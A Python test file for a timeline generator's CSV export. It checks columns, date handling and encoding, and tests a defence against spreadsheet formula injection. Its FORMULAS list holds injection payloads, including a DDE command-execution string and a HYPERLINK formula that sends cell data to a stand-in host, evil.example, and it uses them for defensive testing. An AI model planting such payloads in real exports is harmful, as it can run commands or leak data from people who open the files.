"""``events.csv``: a table that spreadsheets open, and in which no text is a formula."""

import csv
import io
from typing import Any

import pytest

from generator import cells
from generator.cells import harmless
from generator.export.events_csv import COLUMNS
from generator.timeline import Timeline
from tests.export.data import files
from tests.render import samples
from tests.render.samples import event, timeline
from tests.render.test_hostile import OURS

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠x", "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1)', "a;=1+1", "a; =1+1", "\t=1+1", "\r=1+1", " =1+1",
]  # fmt: skip


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


def table(found: Timeline, **settings: Any) -> list[dict[str, str]]:
    return rows(files(found, **settings)["events.csv"])


def three(**fields: Any) -> Timeline:
    return timeline(*(event(f"e{n}", **fields) for n in range(3)))


def is_formula(cell: str) -> bool:
    """Say whether a spreadsheet takes a cell, or a part of it behind a semicolon, for a formula."""
    return any(
        part.strip(" ")[:1] in tuple("=+-@＝＋－＠\t\r\n") and part.strip(" ") != ""
        for part in cell.split(";")
    )


def test_a_row_tells_of_an_event() -> None:
    found = three(
        date="2024-03",
        title="Two ports, one treaty",
        summary="They *signed* it, and “all” was said.",
        people=["Ana Ross", {"ref": "Ben Ode", "role": "host"}],
        topics=["trade", "the-gulf"],
    )
    row = table(found)[0]

    assert list(row) == list(COLUMNS)
    assert row["title"] == "Two ports, one treaty"
    assert row["summary"] == "They signed it, and “all” was said."
    assert (row["date"], row["earliest"], row["latest"]) == ("2024-03", "2024-03-01", "2024-03-31")
    assert (row["precision"], row["date in words"]) == ("month", "March 2024")
    assert not [
        c for r in table(three(date="2024-03-15")) for c in r.values() if "\N{NO-BREAK SPACE}" in c
    ]
    assert row["people"] == "Ana Ross; Ben Ode"
    assert row["topics"] == "trade; the gulf"
    assert row["sources"] == "https://example.com/a"
    assert row["url"] == "https://harbour.test/events/e0/"


@pytest.mark.parametrize(
    ("when", "approximate", "uncertain"),
    [
        ("2024-03-15", "", ""),
        ("2024-03-15~", "yes", ""),
        ("2024?", "", "yes"),
        ("2024%", "yes", "yes"),
    ],
)
def test_days_that_are_not_sure_say_so(when: str, approximate: str, uncertain: str) -> None:
    row = table(three(date=when))[0]

    assert (row["approximate"], row["uncertain"]) == (approximate, uncertain)


def test_an_open_end_is_an_empty_cell() -> None:
    row = table(three(date="2024-03-11/.."))[0]

    assert (row["earliest"], row["latest"]) == ("2024-03-11", "")


def test_it_is_utf_8_with_its_mark_and_ends_lines_as_the_standard_says() -> None:
    text = files(three(people=["Анна Рос"]))["events.csv"]

    assert text.encode()[:3] == b"\xef\xbb\xbf"
    assert text.count("\r\n") == text.count("\n") == 4
    assert "Анна Рос" in text


@pytest.mark.parametrize("payload", [*OURS, *FORMULAS])
def test_no_text_of_a_record_is_a_formula_or_breaks_the_table(payload: str) -> None:
    text = files(samples.filled(lambda: payload))["events.csv"]
    read = rows(text)

    assert [r["id"] for r in read] == ["d", "a", "b"]
    assert [cell for r in read for cell in r.values() if is_formula(cell)] == []
    assert all(None not in r and None not in r.values() for r in read)


@pytest.mark.parametrize("payload", FORMULAS)
def test_without_the_defence_it_would_be_one(payload: str, monkeypatch: pytest.MonkeyPatch) -> None:
    found = samples.filled(lambda: f"x;{payload}" if payload != payload.strip() else payload)
    assert not any(is_formula(c) for r in table(found) for c in r.values())

    monkeypatch.setattr(cells, "harmless", lambda text: text)

    assert any(is_formula(c) for r in table(found) for c in r.values())


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_is_told_as_text(payload: str) -> None:
    assert is_formula(payload)
    assert not is_formula(harmless(payload))
    assert harmless(payload).replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("text", ["1+1", "a=b", "a-b", "ana@example.org", "", "5; 6", "it's"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
